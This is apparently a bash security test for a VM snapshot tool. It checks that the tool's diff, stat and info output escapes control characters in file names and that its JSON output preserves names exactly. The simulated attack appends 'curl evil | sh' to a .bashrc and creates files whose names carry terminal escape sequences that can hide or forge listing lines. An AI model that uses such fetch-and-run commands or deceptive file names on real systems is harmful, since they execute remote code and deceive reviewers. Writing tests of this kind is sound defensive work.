#!/usr/bin/env bash
# Issue 13, item 7 and "what the tools print is safe to read": a VM changes .bashrc and
# creates files whose names carry terminal escapes (cursor up, erase line) and
# newlines, so that the raw listing hides the "M .../.bashrc" line or forges others.
# fvm diff, diff --stat and info must print no control character of a name raw (one
# line per change); --json must stay exact (every name recovered byte for byte).
. "$(dirname "$0")/lib.sh"
sec_require
PY=$(command -v python3)

echo 'alias ls=ls' > "$HOST/.bashrc"
sec_snapshot
vm s -- "$PY" -c "
import os
os.chdir('$HOST')
open('.bashrc', 'a').write('curl evil | sh\n')
open('zz\x1b[1A\x1b[2K', 'w').write('x')
open('note\nA harmless', 'w').write('x')
open('bell\x07\x7f\x9b2K', 'w').write('x')
" > "$T/vm.out" 2>&1
verdict the_attack_run_left_the_host_alone ""

# clean OUTPUT-FILE LINES: no control character (C0, DEL, C1) but newline and tab, and
# LINES lines when LINES is set.
clean() {
	"$PY" - "$1" "${2:-}" <<'PY'
import sys
data = open(sys.argv[1], "rb").read()
text = data.decode("utf-8", errors="surrogateescape")
bad = sorted({ord(c) for c in text if (ord(c) < 0x20 and c not in "\t\n") or 0x7f <= ord(c) <= 0x9f})
if bad:
    print("control characters printed raw: " + " ".join("U+%04X" % c for c in bad))
if sys.argv[2] and data.count(b"\n") != int(sys.argv[2]):
    print("%d lines for %s changes" % (data.count(b"\n"), sys.argv[2]))
PY
}

fvmc diff s --json > "$T/json" 2> "$T/json.err"
nchanges=$(grep -c '^{' "$T/json")
problems=$("$PY" - "$T/json" "$HOST" <<'PY'
import json, sys
host = sys.argv[2]
want = {host + "/" + n for n in (".bashrc", "zz\x1b[1A\x1b[2K", "note\nA harmless", "bell\x07\x7f\x9b2K")}
try:
    got = {json.loads(l)["path"] for l in open(sys.argv[1], encoding="utf-8", errors="surrogateescape") if l.strip()}
except Exception as e:
    print("not JSON: %s" % e)
    sys.exit()
for p in sorted(want - got):
    print("missing: %r" % p)
for p in sorted(got - want):
    print("unexpected: %r" % p)
PY
)
verdict diff_json_keeps_every_name_exact "" "$problems"

fvmc diff s > "$T/diff" 2>&1
verdict diff_prints_no_raw_control_character_of_a_name "" \
	"$(clean "$T/diff" "$nchanges")"
fvmc diff s --stat > "$T/stat" 2>&1
verdict diff_stat_prints_no_raw_control_character_of_a_name "" \
	"$(clean "$T/stat" "$((nchanges + 1))")"
fvmc info s > "$T/info" 2>&1
verdict info_prints_no_raw_control_character_of_a_name "" "$(clean "$T/info")"

done_testing
